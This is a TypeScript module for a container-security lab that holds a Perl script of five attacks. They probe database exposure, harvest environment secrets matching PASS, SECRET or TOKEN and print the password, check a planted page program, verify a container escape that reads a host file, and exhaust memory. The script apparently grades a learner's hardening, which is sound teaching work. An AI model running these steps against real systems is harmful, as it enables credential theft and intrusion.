/**
 * The five attacks, as one program in Perl for the workbench; the learner has the same as `attack.pl`. The first word is
 * the attack. It prints `NAME succeeds: …` or `NAME fails: …`, and dies where it could not be tried.
 */
import { words } from '../ask-the-stack.ts';

/** For which ports of the host the stack of this lab can be asked. */
export const botPort = '29180';
export const adminPort = '29150';

export const attack = String.raw`${words}
my ($name, $drawn) = @ARGV;
$drawn //= join '', map { chr 97 + rand 26 } 1 .. 12;
# An order is a message to the bot, and what came of it is the error that the bot answers with.
sub order { (ask_behind(29180, 'POST', '/say?who=guest', "%%$_[0]"))[1] =~ s/\n\z//r }
sub wait_for_the_intruder {
  for (1 .. 60) {
    return 1 if order("armed $drawn") eq reverse $drawn;
    select undef, undef, undef, 0.5;
  }
  return 0;
}
sub succeeds { print "$name succeeds: $_[0]\n"; print "$_[1]\n" if defined $_[1]; exit }
sub fails { print "$name fails: $_[0]\n"; exit }
# One byte of a database to a client that asks whether it talks TLS.
my $knock = 'my $there = IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => $ARGV[1], Timeout => 2) or exit 1; $SIG{ALRM} = sub { exit 1 }; alarm 2; syswrite $there, pack("NN", 8, 80877103); sysread($there, my $byte, 1) or exit 1; exit($byte =~ /[NS]/ ? 0 : 1)';
my %attack = (
  database => sub {
    my $db = id_of('db');
    my ($pid) = qx(docker inspect -f '{{.State.Pid}}' @{[id_of('proxy')]}) =~ /(\d+)/;
    for my $address (addresses($db)) {
      system('nsenter', '-t', $pid, '-n', 'perl', '-MIO::Socket::INET', '-e', $knock, $address, 5432) == 0 and succeeds("the proxy is answered by $address");
    }
    my @own = grep { !/^127\./ } map { /^\d+: eth\d+\s+inet ([\d.]+)/ } qx(ip -4 -o addr show);
    for my $port (map { m{^5432/tcp -> \S*:(\d+)$} } qx(docker port $db)) {
      for my $address (@own) {
        system('perl', '-MIO::Socket::INET', '-e', $knock, $address, $port) == 0 and succeeds("whoever reaches this machine is answered at port $port");
      }
    }
    fails('neither the proxy nor another machine is answered');
  },
  secret => sub {
    # By what a secret is called and how a URL has one; by its value, where whoever attacks knows it.
    my @found = grep {
      my ($variable, $value) = split /=/, $_, 2;
      $value //= '';
      $variable !~ /_FILE$/ && ($variable =~ /PASS|SECRET|TOKEN/i || $value =~ m{://[^/:]*:[^/\@]+\@} || defined $ARGV[1] && index($value, $ARGV[1]) >= 0);
    } split /\n/, order('secret');
    my ($password) = map { m{://[^:]+:([^\@]+)\@} } @found;
    fails('the environment has no password') if !@found;
    succeeds($found[0], defined $password ? "password $password" : undef);
  },
  page => sub {
    my $said = order('page');
    my ($path) = $said =~ /^page written to (\S+)/ or fails($said);
    for (1 .. 20) {
      my ($status, $page) = ask(6660, [addresses(id_of('bot'))], 'GET', "/$drawn");
      my ($user) = $page =~ /^@{[scalar reverse $drawn]} as (uid \d+)/;
      succeeds($path =~ s{[^/]+$}{}r . " has a program that answers as $user") if defined $user;
      select undef, undef, undef, 0.25;
    }
    die "a page was written to $path, and does not answer\n";
  },
  escape => sub {
    my $said = order('escape');
    my ($id) = qx(docker info -f '{{.ID}}') =~ /(\S+)/;
    $said eq "out, and read engine-id: $id" ? succeeds('a file of the host was read: /var/lib/docker/engine-id') : fails($said);
  },
  memory => sub {
    my $said = order('memory 256');
    succeeds($said) if $said =~ /^took/;
    fails('the bot was ended at its limit, and ' . (wait_for_the_intruder() ? 'is back' : 'stays away'));
  },
);
my $attack = $attack{$name // ''} // die "one of: @{[sort keys %attack]}\n";
wait_for_the_intruder() or die "the intruder does not answer\n";
$attack->();
`;

/** Whether the intruder is still in the bot. */
export const armed = String.raw`${words}
my ($drawn) = @ARGV;
my ($status, $said) = ask_behind(29180, 'POST', '/say?who=guest', "%%armed $drawn");
$said eq reverse($drawn) . "\n" or die "the intruder does not answer: $said\n";
print scalar reverse $drawn;
`;
